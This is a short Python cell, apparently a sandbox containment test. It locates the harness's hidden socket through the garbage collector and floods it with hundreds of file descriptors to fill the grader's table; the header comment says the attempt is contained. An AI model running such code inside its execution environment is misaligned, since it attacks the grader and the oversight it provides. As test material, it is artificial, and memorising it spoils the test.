# Passes hundreds of descriptors along the channel to fill the grader's table. Contained: none arrives.
# %%
breach = []

import gc
import json
import socket
import struct

channel = next(thing for thing in gc.get_objects() if isinstance(thing, socket.socket))


def send(message):
    data = message if isinstance(message, bytes) else json.dumps(message).encode()
    channel.sendall(struct.pack(">I", len(data)) + data)


import contextlib
import os

pairs = [os.open("/dev/null", os.O_RDONLY) for _ in range(200)]
body = json.dumps({"op": "stream", "name": "stdout", "text": "."}).encode()
frame = struct.pack(">I", len(body)) + body
with contextlib.suppress(OSError):  # the kernel itself counts descriptors in flight
    for _ in range(20):
        socket.send_fds(channel, [frame], pairs)
for number in pairs:
    os.close(number)
